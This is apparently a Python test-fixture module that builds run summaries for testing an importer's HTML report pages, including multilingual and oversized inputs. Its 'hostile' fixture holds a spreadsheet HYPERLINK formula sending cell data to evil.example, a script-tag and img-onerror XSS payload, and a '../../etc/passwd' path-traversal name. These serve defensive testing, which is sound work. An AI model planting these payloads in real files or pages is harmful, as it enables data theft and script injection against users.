"""Summaries of many kinds, for tests of the pages made from them."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from importer.results.html_report import AccountLines, RunLine
from importer.results.summary import GroupReport, Summary
from importer.results.timeline import Timeline

if TYPE_CHECKING:
    from importer.results.timeline import Interval

HEBREW = "שם הלקוח"
ARABIC = "رقم الهاتف"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
SCRIPT = "<script>document.title='run'</script><img src=http://evil.example/x onerror=alert(1)>"
LONG = "R" * 500


def summary(**fields: Any) -> Summary:
    """A run of an ordinary night, but for ``fields``."""
    made = Summary(
        "20261126T013004Z-1f3a9c",
        "run",
        "https://api.example.com, test mode, account default",
        1.0,
        "2026-11-26T01:30:04Z",
        ["crm.csv"],
        "2026-11-26T01:32:17Z",
        records=3,
        outcomes={"created": 3},
        requests={"post": 3, "get": 0},
        answers={"post": {"201": 3}},
        settings=[("ledger", "l.db", "flag --ledger"), ("out", "results", "default")],
        next=["importer run crm.csv  # again: sends only what is new"],
        seconds={"total": 133.1},
    )
    for name, value in fields.items():
        setattr(made, name, value)
    return made


def group(text: str, **fields: Any) -> GroupReport:
    """A group of errors."""
    given = {
        "outcome": "invalid",
        "rows": 12,
        "source": "crm.csv",
        "column": "phone",
        "error_code": "phone_not_e164",
        "detail": "",
        "http_status": 0,
        "lines": [2, 3, 5],
        "text": text,
        "fix": "write it otherwise",
        "toml": "",
        **fields,
    }
    return GroupReport(**given)


def hostile() -> Summary:
    """Everything that a source, a server or a user can put into a summary, at its worst."""
    groups = [
        group(f'"{ARABIC}": holds 0412'),
        group(f"{HEBREW}: is empty", column=HEBREW),
        group(FORMULA, fix=SCRIPT, source=SCRIPT),
        group(SCRIPT, outcome="rejected", http_status=422),
        group(LONG, lines=[1_234_567] * 10, rows=1_234_567),
        *[group(f"metadata key k{n} is too long", rows=40 - n) for n in range(6)],
    ]
    return summary(
        records=1_234_600,
        exit_code=3,
        stopped_by="unauthorised",
        stop_message=f"Moment does not accept the API key [{SCRIPT}]",
        stop_hint=FORMULA,
        account=f"https://api.example.com, test mode, account {HEBREW}",
        sources=["crm.csv", f"{ARABIC}/{LONG}.csv", SCRIPT, *(f"{n}.csv" for n in range(500))],
        outcomes={
            **dict.fromkeys(("created", "found", "unchanged", "changed", "updated"), 200_000),
            **dict.fromkeys(("conflict", "missing", "rejected", "unsettled", "duplicate"), 1),
            "invalid": 234_595,
        },
        requests={"post": 400_000, "get": 12, "patch": 200_000},
        answers={"post": {"201": 399_000, "429": 900, "0": 100}},
        groups=groups,
        groups_found=100_000,
        toml=f'[fields]\n# {SCRIPT}\n"{HEBREW}" = "{LONG}"',
        fields={
            "updated": {"balance": 9, f"metadata.{ARABIC}": 2, SCRIPT: 1},
            "conflict": {f"metadata.{LONG}": 3},
        },
        warnings=[f'column "{HEBREW}" is not known', SCRIPT, *("w",) * 30],
        vanished=4,
        marked={"yes": 3, SCRIPT: 1},
        mapping={"file": f"{LONG}.toml", "sha256": "ab" * 32},
        plan="cd" * 32,
        settings=[("update", FORMULA, "flag --update"), ("account", HEBREW, SCRIPT)],
        next=[f"importer run {LONG}.csv --account {HEBREW}  # {SCRIPT}", "importer status  # x"],
        transforms=[{"name": SCRIPT, "column": ARABIC, "changed": 3, "examples": [[LONG, HEBREW]]}],
        errors_files={"errors.csv": {"invalid": 2}, "../../etc/passwd": {"invalid": 1}},
        waits={"Moment did not answer": 890.0, SCRIPT: 3.0},
    )


def day_two() -> Summary:
    """A night with updates, conflicts, and a check of several sources."""
    return summary(
        records=52_118,
        exit_code=1,
        outcomes={
            "created": 118,
            "updated": 1840,
            "unchanged": 50_103,
            "conflict": 44,
            "missing": 13,
        },
        fields={"updated": {"balance": 1800, "email": 40}, "conflict": {"email": 40, "phone": 4}},
        groups=[group("not in step: Moment holds something else", outcome="conflict")],
        errors_files={"errors.csv": {"conflict": 57}},
    )


def delivery(seconds: float = 3.0, step: float = 0.25) -> list[Interval]:
    """Intervals of a delivery with 429s and holds."""
    line = Timeline()
    line.start(100.0)
    for n in range(1, int(seconds / step) + 1):
        holding = "waiting 3 s: Moment sent Retry-After" if 1 < n * step < 2 else ""
        line.add(
            100.0 + n * step,
            requests=n * 20,
            throttled=n // 5,
            settled=n * 19,
            in_flight=n % 30,
            waiting=n % 7,
            holding=holding,
        )
    return line.intervals()


def runs() -> list[AccountLines]:
    """The runs of a ledger, with all that their page knows."""
    some = [
        RunLine(
            f"20261126T01{n:04}Z-1f3a9c",
            "run",
            "2026-11-26T01:30:04Z",
            None if n == 11 else 60.0 + n,
            None if n == 11 else (0, 0, 1, 75, 3)[n % 5],
            {"created": 1000, "invalid": n % 3},
            SCRIPT if n == 10 else f"{HEBREW}/{LONG[:90]}.csv",
            has_page=n % 2 == 0,
        )
        for n in reversed(range(12))
    ]
    return [
        AccountLines(f"https://api.example.com, test mode, account {SCRIPT}", some),
        AccountLines("https://api.example.com, test mode, account new", []),
        AccountLines("https://api.example.com, live mode, account x", (), "a half copy (copy on)"),
    ]
